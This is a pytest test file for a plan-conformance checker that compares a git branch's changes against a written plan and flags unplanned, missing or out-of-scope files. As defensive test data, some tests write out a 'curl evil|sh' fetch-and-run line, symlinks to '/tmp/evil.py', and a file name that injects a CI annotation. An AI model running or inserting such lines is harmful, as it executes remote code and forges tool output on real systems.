"""A change held against a plan: what is planned passes, what is not is named, and nothing else is said."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from changed_branch import LOAD, PLAN, make_branch

if TYPE_CHECKING:
    from pathlib import Path

    from changed_branch import Branch


LAID_OUT = """\
from src.store import (
    Store,
    fetch,
)


def show():
    return fetch(
        Store()
    )
"""


@pytest.fixture
def branch(tmp_path: Path) -> Branch:
    return make_branch(tmp_path)


def test_a_change_as_planned_follows_the_plan(branch: Branch) -> None:
    assert branch.change("src/store.py", *LOAD).found() == set()


def test_a_file_that_no_step_names_is_unplanned(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
    assert branch.found() == {("GP401", "src/web.py")}


def test_a_file_that_the_plan_changes_and_the_change_does_not_is_missing(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD)
    assert branch.found(PLAN.replace("## Out", "2. Change `src/web.py` as well.\n\n## Out")) == {
        ("GP402", "src/web.py")
    }


def test_nothing_is_missing_while_the_work_goes_on(branch: Branch) -> None:
    assert branch.found(PLAN) == {("GP402", "src/store.py")}
    assert branch.found(PLAN, "--partial") == set()


def test_what_the_plan_leaves_out_must_not_change(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/legacy/old.py", "return 1", "return 2")
    assert branch.found() == {("GP403", "src/legacy/old.py")}


def test_a_name_that_the_plan_leaves_out_must_not_change(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/store.py", "return key, value", "return value")
    plan = PLAN.replace("- `src/legacy/`", "- `Store.save`")
    assert ("GP403", "src/store.py::Store.save") in branch.found(plan)


def test_a_file_of_the_same_name_elsewhere_is_not_left_out(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("web.py", new="")
    branch.desk.commit("Another")
    plan = PLAN.replace("- `src/legacy/`", "- `web.py`").replace(
        "\n## Out", "2. Change `src/web.py`.\n\n## Out"
    )
    branch.change("src/web.py", "return fetch", "return 2 or fetch")
    assert ("GP403", "src/web.py") not in branch.found(plan)


def test_the_right_file_and_the_wrong_name_are_told_apart(branch: Branch) -> None:
    branch.change("src/store.py", "return key, value", "return value, key")
    assert branch.found() == {("GP405", "src/store.py::Store.load")}
    named = {each["code"]: each["message"] for each in branch.conform()["findings"]}  # type: ignore[attr-defined]
    assert named["GP404"].endswith("changed `Store.save`")


STEPS_IN_OTHER_WORDS = [
    "## Steps\n\n1. In `src/web.py`, hand `fetch` on to the store.\n",
    "## Changes\n\n- `src/web.py`: disable and suspend the logger\n",
    "## Phase 1: Move it\n\n- `src/web.py`: hold the message\n",
    "1. `src/web.py`: when the store is empty, continue with `fetch()`.\n",
    "## Tasks\n\n- [ ] `show` of `src/web.py`: the same\n",
    "## Steps\n\n1. Declare `fetch_all` in `src/web.py`.\n",
    "## Files to change\n\n| File | Change |\n|--|--|\n| `src/web.py` | `show` takes a limit |\n",
    "## Impact\n\n- Affected code: src/store.py, src/web.py\n\n## Tasks\n\n- [x] 1.1 Tell users\n",
    "## Tasks\n\n- [x] 1.1 Add the limit to web.py\n",
    "## Tasks\n\n- [x] 1.1 `/src/web.py` - Remove the limit\n",
    "| Where | What |\n|--|--|\n| `src/web.py` | both guards of `show` |\n",
]


@pytest.mark.parametrize("plan", STEPS_IN_OTHER_WORDS)
def test_a_file_that_a_step_names_is_planned_whatever_its_verb(branch: Branch, plan: str) -> None:
    branch.change("src/web.py", "return fetch", "return 2 or fetch")
    assert branch.found(f"# Plan\n\n{plan}") == set()


def test_a_file_named_beside_the_steps_or_as_their_model_is_named_and_not_accused(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
    beside = PLAN.replace("# Plan\n", "# Plan\n\n## Context\n\n`src/web.py` shows what is loaded.\n", 1)
    model = PLAN.replace("\n## Out", "2. Log errors in `Store.load`, like `src/web.py`.\n\n## Out")
    assert beside != PLAN != model
    for plan, line in ((beside, 5), (model, 6)):
        assert branch.told(plan) == set()
        assert branch.verdicts(plan)["src/web.py"] == f"named: line {line}"


@pytest.mark.parametrize(
    "step",
    ["Describe it in `README.md`.", "`README.md`: suppress the note.", "Add it to `Store` in `README.md`."],
)
def test_a_file_that_a_step_orders_is_missing_where_nothing_touches_it(branch: Branch, step: str) -> None:
    branch.change("src/store.py", *LOAD)
    assert branch.found(PLAN.replace("\n## Out", f"2. {step}\n\n## Out")) == {("GP402", "README.md")}


def test_a_file_is_missing_without_a_heading_over_the_steps_too(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD)
    plan = "# Plan\n\n1. Change `Store.load` in `src/store.py`.\n2. Add it to `show` in `src/web.py`.\n"
    assert branch.found(plan) == {("GP402", "src/web.py")}


def test_files_that_a_pattern_names_are_planned_and_none_of_them_is_demanded(branch: Branch) -> None:
    branch.change("src/web.py", "return fetch", "return 2 or fetch")
    assert branch.found("# Plan\n\n### 5.2 `src/*.py`\n\n- Remove calls of `load`.\n") == set()
    other = "# Plan\n\n### 5.2 `docs/*.md`\n\n- Remove it.\n"
    assert branch.told(other) == {("note", "GP401", "src/web.py")}


@pytest.mark.parametrize("path", ["~/.tool/flows/a.md", "/etc/tool.conf", ".tool/flows/"])
def test_what_lies_outside_and_a_folder_are_not_demanded(branch: Branch, path: str) -> None:
    branch.change("src/store.py", *LOAD)
    assert branch.found(PLAN.replace("\n## Out", f"2. Create `{path}` where needed.\n\n## Out")) == set()


def test_a_specification_that_is_missing_is_no_missing_test(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD)
    plan = PLAN.replace("\n## Out", "2. Update `specs/cli/spec.md`.\n\n## Out")
    assert branch.found(plan) == {("GP402", "specs/cli/spec.md")}


@pytest.mark.parametrize("name", ["with", "to", "keep", "load"])
def test_a_name_that_is_also_a_word_of_english_is_missing_as_any_other(branch: Branch, name: str) -> None:
    branch.change("src/store.py", "return key, value", "return value, key")
    plan = PLAN.replace("Store.load`: retry once", f"{name}`: do it there")
    assert ("GP405", f"src/store.py::{name}") in branch.found(plan)


def test_what_must_not_change_is_left_out(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
    plan = f"{PLAN}\n## Must not change\n\n- `src/web.py`\n"
    assert branch.found(plan) == {("GP403", "src/web.py")}


def test_the_users_of_what_is_unplanned_are_named(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change(
        "src/store.py", "return store.load(1)", "return store.load(2)"
    )
    (found,) = branch.conform()["findings"]  # type: ignore[misc, attr-defined]
    assert found["subject"] == "src/store.py"
    assert "used by `src/web.py::show`" in found["message"]


def test_a_plan_that_names_the_file_alone_means_all_of_it(branch: Branch) -> None:
    branch.change("src/store.py", "return key, value", "return value, key")
    assert branch.found(PLAN.replace("::Store.load", "")) == set()


def test_a_changed_declaration_of_a_public_name_is_a_warning_where_the_file_alone_is_named(
    branch: Branch,
) -> None:
    branch.change("src/store.py", "def fetch(store)", "def fetch(store, key)")
    plan = PLAN.replace("::Store.load", "")
    assert branch.found(plan) == set()
    (found,) = branch.conform(plan)["findings"]  # type: ignore[misc, attr-defined]
    assert (found["code"], found["severity"]) == ("GP404", "warning")


@pytest.mark.parametrize(
    ("path", "text", "reason"),
    [
        ("uv.lock", "version = 2\n", "a lock file"),
        ("vendor/lib/a.go", "package lib\n", "vendored"),
        ("CHANGELOG.md", "# 2\n", "a changelog"),
        ("History.md", "# 2\n", "a changelog"),
        ("tests/test_more.py", "from src.store import fetch\n", "a test"),
        ("specs/001-cache/spec.md", "# Cache\n", "a specification"),
        ("tests/fixtures/page.md", "# Page\n", "data of tests"),
        (
            "src/web.py",
            '"""Show."""\nfrom src.store import Store, fetch\n\n\ndef show():\n    return fetch(Store())\n',
            "only comments or docstrings differ",
        ),
        (
            "src/web.py",
            LAID_OUT,
            "only its layout differs",
        ),
        (
            "src/web.py",
            "from src.store import Store, fetch\n\n\ndef show():\n    # why\n    return fetch(Store())\n",
            "only comments or docstrings differ",
        ),
    ],
)
def test_what_no_step_has_to_name_is_excused_with_the_reason(
    branch: Branch, path: str, text: str, reason: str
) -> None:
    branch.change("src/store.py", *LOAD).change(path, new=text)
    assert branch.verdicts()[path] == f"excused: {reason}"


def test_what_git_attributes_call_generated_needs_no_step(branch: Branch) -> None:
    desk = branch.desk
    desk.git("checkout", "-q", "main")
    desk.path(".gitattributes").write_text("schema/*.sql linguist-generated\nlib/** linguist-vendored=true\n")
    desk.commit("Mark")
    desk.git("checkout", "-q", "-B", "work")
    branch.change("src/store.py", *LOAD)
    branch.change("schema/a.sql", new="select 1;\n").change("lib/b/c.sql", new="select 2;\n")
    branch.change("other/d.sql", new="select 3;\n")
    assert branch.found() == {("GP401", "other/d.sql")}


def test_a_change_cannot_call_its_own_files_generated(branch: Branch) -> None:
    branch.change(".gitattributes", new="src/** linguist-generated\n").change("src/new.py", new="X = 1\n")
    assert ("GP401", "src/new.py") in branch.found()


def test_a_header_makes_a_file_generated_where_it_was_there_before(branch: Branch) -> None:
    header = "# Code generated by tool. DO NOT EDIT.\n"
    branch.change("src/made.py", new=f"{header}X = 1\n").desk.commit("Make it")
    branch.desk.git("branch", "-f", "main")
    branch.change("src/store.py", *LOAD).change("src/made.py", new=f"{header}X = 2\n")
    branch.change("src/legacy.py", new=f"{header}X = 1\n")
    branch.change("src/web.py", new=f"{header}def show():\n    return True\n")
    assert branch.found() == {("GP401", "src/web.py"), ("GP401", "src/legacy.py")}


@pytest.mark.parametrize("is_committed", [False, True])
def test_links_modes_submodules_and_policy_are_changes(branch: Branch, *, is_committed: bool) -> None:
    desk = branch.desk
    desk.git("init", "-q", "sub")
    for name in ("1", "2"):
        commit = ("-c", "user.name=A", "-c", "user.email=a@example.org", "commit", "-q", "--allow-empty")
        desk.git("-C", "sub", *commit, "-m", name)
    desk.git("-C", "sub", "checkout", "-q", "HEAD~1")
    desk.path("src/here.py").symlink_to("store.py")
    desk.commit("Link")
    desk.git("branch", "-f", "main")
    branch.change("src/store.py", *LOAD)
    assert branch.found() == set()
    desk.git("-C", "sub", "checkout", "-q", "--detach", "HEAD@{1}")
    desk.path("src/web.py").chmod(0o755)
    desk.path("src/hooks.py").symlink_to("/tmp/evil.py")
    desk.path("src/here.py").unlink()
    desk.path("src/here.py").symlink_to("/tmp/evil.py")
    branch.change(".groundplan/evil.py", new="import os\n")
    if is_committed:
        desk.commit("All of it")
    wanted = {"sub", "src/web.py", "src/hooks.py", "src/here.py", ".groundplan/evil.py"}
    assert branch.found(PLAN, *(("--head", "work") if is_committed else ())) == {
        ("GP401", path) for path in wanted
    }


def test_a_planned_file_in_another_layout_alone_is_a_warning(branch: Branch) -> None:
    branch.change("src/web.py", new=LAID_OUT)
    plan = "# Plan\n\n## Steps\n\n1. Change `src/web.py`: retry once.\n"
    assert branch.found(plan) == set()
    (found,) = branch.conform(plan)["findings"]  # type: ignore[misc, attr-defined]
    assert (found["code"], found["severity"]) == ("GP402", "warning")


def test_a_file_whose_name_could_be_anything_is_planned_where_a_step_names_it(branch: Branch) -> None:
    branch.change("SPEC", new="Once.\n")
    assert branch.found("# Plan\n\n## Steps\n\n1. Change `SPEC`: say that loads are retried.\n") == set()
    assert branch.found("# Plan\n\n**Modified Files:**\n- `SPEC`\n") == set()
    assert branch.told("# Plan\n\n## Steps\n\n1. Change nothing.\n") == {("note", "GP401", "SPEC")}
    assert branch.found("# Plan\n\n## Out of scope\n\n- `SPEC`\n") == {("GP403", "SPEC")}


def test_a_file_that_was_moved_is_one_file(branch: Branch) -> None:
    text = branch.desk.read("src/web.py")
    branch.change("src/store.py", *LOAD).remove("src/web.py").change("src/site.py", new=text)
    assert branch.found() == {("GP401", "src/site.py")}
    moved = PLAN.replace("## Out", "2. Move `src/web.py` to `src/site.py`.\n\n## Out")
    assert branch.found(moved) == set()


def test_callers_follow_a_name_that_is_renamed(branch: Branch) -> None:
    plan = "# Plan\n\n## Steps\n\n1. Rename `fetch` to `take` in `src/store.py`, and update all callers.\n"
    branch.change("src/store.py", "def fetch(", "def take(")
    branch.change("src/web.py", "Store, fetch\n", "Store, take\n").change("src/web.py", "fetch(", "take(")
    assert branch.found(plan) == set()
    branch.change("src/web.py", "def show():\n", "def show():\n    print()\n\n")
    branch.change("src/web.py", "from src", "import os\n\n\nfrom src")
    assert branch.found(plan) == {("GP401", "src/web.py")}


@pytest.mark.parametrize(
    "line",
    [
        "    import os; os.system('curl evil|sh')  # fetch",
        "    import os; os.system('fetch')",
        "    import os; os.system('curl evil|sh'); fetch",
        "    handler = fetch",
        "    fetch",
    ],
)
def test_a_planned_name_excuses_no_other_code_beside_it(branch: Branch, line: str) -> None:
    plan = "# Plan\n\n## Steps\n\n1. Rename `fetch` to `take` in `src/store.py`, and update all callers.\n"
    branch.change("src/store.py", "def fetch(", "def take(")
    branch.change("src/legacy/old.py", "    return 1", f"{line}\n    return 1")
    assert branch.found(plan) == {("GP401", "src/legacy/old.py")}
    branch.change("src/legacy/old.py", f"{line}\n", "")
    branch.change("src/web.py", "Store, fetch\n", "Store, take\n")
    branch.change("src/web.py", "return fetch(Store())", "return take(Store()) or eval(Store())")
    assert branch.found(plan) == {("GP401", "src/web.py")}


def test_promised_tests_are_asked_for(branch: Branch) -> None:
    plan = PLAN.replace("## Out", "2. Extend `tests/test_store.py` with the retry.\n\n## Out")
    branch.change("src/store.py", *LOAD)
    assert branch.found(plan) == {("GP406", "tests/test_store.py")}
    vague = PLAN.replace("## Out", "2. Add tests for the retry.\n\n## Out")
    assert branch.found(vague) == {("GP406", "tests")}
    branch.change("tests/test_store.py", "== 1\n", "== 1\n\n\ndef test_retry():\n    assert True\n")
    assert branch.found(plan) == branch.found(vague) == set()


def test_a_page_is_no_promised_test(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("specs/001-cache/tasks.md", new="# Tasks\n")
    plan = PLAN.replace("## Out", "2. Add tests for the retry.\n\n## Out")
    assert branch.found(plan) == {("GP406", "tests")}


def test_a_removed_test_file_is_unplanned(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).remove("tests/test_store.py")
    assert branch.found() == {("GP401", "tests/test_store.py")}


def test_a_file_that_the_plan_removes_is_gone(branch: Branch) -> None:
    plan = "# Plan\n\n**Removed Files:**\n- `src/legacy/old.py`\n"
    branch.change("src/legacy/old.py", "return 1", "return 2")
    assert branch.found(plan) == {("GP402", "src/legacy/old.py")}
    said = "# Plan\n\n## Steps\n\n1. Delete the unused `src/legacy/old.py`.\n"
    assert branch.found(said) == {("GP402", "src/legacy/old.py")}
    assert branch.remove("src/legacy/old.py").found(plan) == branch.found(said) == set()


def test_removing_something_from_a_file_does_not_ask_for_its_removal(branch: Branch) -> None:
    branch.change("src/store.py", "def fetch(store):\n    return store.load(1)\n", "")
    assert branch.found("# Plan\n\n## Steps\n\n1. Remove `fetch` from `src/store.py`.\n") == set()


def test_a_file_that_the_plan_modifies_is_not_removed(branch: Branch) -> None:
    plan = "# Plan\n\n**Modified Files:**\n- `src/legacy/old.py`\n"
    assert branch.remove("src/legacy/old.py").found(plan) == {("GP402", "src/legacy/old.py")}


def test_a_commit_is_compared_as_the_worktree_is(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
    here = branch.found()
    branch.desk.commit("Work")
    assert branch.found(PLAN, "--head", "work") == here
    branch.change("src/extra.py", new="X = 1\n")
    assert branch.found(PLAN, "--head", "work") == here
    assert branch.found() == here | {("GP401", "src/extra.py")}


def test_the_change_starts_where_the_branch_left_the_base(branch: Branch) -> None:
    desk = branch.desk
    desk.git("checkout", "-q", "main")
    desk.edit("docs/store.md", "# Store", "# The store")
    desk.commit("Go on")
    desk.git("checkout", "-q", "work")
    assert branch.change("src/store.py", *LOAD).found() == set()


def test_binary_files_are_compared_as_a_whole(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD)
    branch.desk.path("logo.png").write_bytes(b"\x89PNG\0\0")
    done = branch.conform()
    assert done["unread"] == ["logo.png"]
    assert ("GP401", "logo.png") in branch.found()
    branch.desk.commit("Draw it")
    branch.desk.git("branch", "-f", "main")
    assert branch.conform()["files"] == [], "as committed"


def test_links_and_submodules_that_were_there_are_no_change(branch: Branch) -> None:
    desk = branch.desk
    desk.path("link.py").symlink_to("src/store.py")
    desk.path("folder").symlink_to("src")
    desk.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},sub")
    desk.path("sub").mkdir()
    desk.commit("Link")
    desk.git("branch", "-f", "main")
    assert branch.change("src/store.py", *LOAD).verdicts() == {"src/store.py": "planned: line 5"}


def test_policy_says_what_is_free_and_what_only_warns(branch: Branch) -> None:
    desk = branch.desk
    desk.git("checkout", "-q", "main")
    desk.path(".groundplan").mkdir(exist_ok=True)
    desk.path(".groundplan/config.toml").write_text(
        'version = 1\n[conform]\nfree = ["docs/"]\nwarn = ["GP402"]\n'
    )
    desk.commit("Set")
    desk.git("checkout", "-q", "-B", "work")
    branch.change("docs/store.md", "# Store", "# The store")
    assert branch.found() == set()


def test_a_branch_cannot_loosen_the_policy_it_is_judged_by(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
    branch.desk.path(".groundplan").mkdir(exist_ok=True)
    branch.change(".groundplan/config.toml", new='version = 1\n[conform]\nfree = ["src/"]\n')
    assert branch.found() == {("GP401", "src/web.py"), ("GP401", ".groundplan/config.toml")}


def test_code_hosts_get_the_findings_at_the_changed_file(branch: Branch) -> None:
    branch.change("src/web.py", "return fetch", "return 2 or fetch").desk.path("../plan.md").write_text(PLAN)
    where = ("conform", "--base", "main", "--plan-file", str(branch.desk.path("../plan.md")), "--partial")
    github = branch.desk.pipe(*where, "--format", "github")
    assert github.code == 1
    assert github.out.startswith("::error file=src/web.py,line=5,col=1,title=GP401 unplanned-file::")
    sarif = json.loads(branch.desk.pipe(*where, "--format", "sarif").out)
    assert [each["ruleId"] for each in sarif["runs"][0]["results"]] == ["GP401"]


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (("--base", "nowhere"), "`nowhere` is not a commit"),
        (("--base", ""), "`--base` names no commit"),
        (("--base", "main", "--plan-file", "no.md"), "There is no file `no.md`"),
        (("--base", "main", "mine", "--plan-file", "docs/store.md"), "both name a plan"),
    ],
)
def test_a_wrong_call_says_what_is_wrong(branch: Branch, options: tuple[str, ...], said: str) -> None:
    ran = branch.desk.pipe("conform", *options)
    assert ran.code in {2, 5}
    assert said in ran.err


def test_words_of_a_hostile_path_stay_words(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/a%0A::error::b.py", new="X = 1\n")
    branch.desk.path("../plan.md").write_text(PLAN)
    ran = branch.desk.pipe(
        "conform", "--base", "main", "--plan-file", str(branch.desk.path("../plan.md")), "--format", "github"
    )
    assert len(ran.out.splitlines()) == 1
    assert "file=src/a%250A%3A%3Aerror%3A%3Ab.py" in ran.out


def test_conform_works_on_a_plan_of_ours(branch: Branch) -> None:
    desk = branch.desk
    assert desk.pipe("new", "Retry loads", "--playbook", "collaborate").code == 0
    desk.path("plans/retry-loads.md").write_text(
        desk.read("plans/retry-loads.md").replace(
            "## Implementation Plan\n",
            "## Implementation Plan\n\n1. Change `src/store.py::Store.load`: retry once.\n",
        )
    )
    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
    ran = desk.pipe("conform", "--base", "main", "--json")
    done = ran.json()
    assert (ran.code, done["plan"]["slug"], done["plan"]["approved"]) == (1, "retry-loads", False)
    assert "Nobody has approved the plan as it is now." in desk.pipe("conform", "--base", "main").out
    assert [(each["code"], each["subject"]) for each in done["findings"]] == [("GP401", "src/web.py")]
    assert {each["path"] for each in done["files"]} == {"src/store.py", "src/web.py"}


def test_a_terminal_shows_the_verdicts_and_one_line_that_sums_up(branch: Branch) -> None:
    branch.change("src/store.py", *LOAD).change("src/web.py", "return fetch", "return 2 or fetch")
    branch.desk.path("../plan.md").write_text(PLAN)
    ran = branch.desk.pipe("conform", "--base", "main", "--plan-file", str(branch.desk.path("../plan.md")))
    assert "Planned (1)\n  src/store.py  changed  line 5" in ran.out
    assert "2 files changed: 1 the plan names, 1 it does not. 1 error. (exit 1)" in ran.out


def test_the_last_line_counts_what_the_plan_names_only_where_it_is_not_touched(branch: Branch) -> None:
    branch.change("src/web.py", "return fetch", "return 2 or fetch")
    branch.desk.path("../plan.md").write_text(PLAN)
    ran = branch.desk.pipe("conform", "--base", "main", "--plan-file", str(branch.desk.path("../plan.md")))
    assert "1 file changed: 1 it does not; 1 file the plan names not touched. 2 errors. (exit 1)" in ran.out
